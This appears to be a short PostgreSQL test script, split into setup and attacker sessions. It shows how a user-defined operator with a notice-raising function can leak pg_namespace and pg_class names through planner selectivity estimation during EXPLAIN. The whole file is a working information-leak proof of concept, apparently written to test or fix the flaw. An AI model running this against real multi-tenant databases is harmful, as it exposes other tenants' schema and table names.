-- Selectivity estimation calls the attacker's operator on the histogram of pg_namespace: the list of tenants.
-- @session setup
ANALYZE pg_namespace, pg_class;
-- @session attacker
CREATE FUNCTION spies(name, name) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$;
CREATE OPERATOR <<<< (FUNCTION = spies, LEFTARG = name, RIGHTARG = name, RESTRICT = scalarltsel, JOIN = scalarltjoinsel);
EXPLAIN SELECT FROM pg_namespace WHERE nspname <<<< 'x';
EXPLAIN SELECT FROM pg_class WHERE relname <<<< 'x';
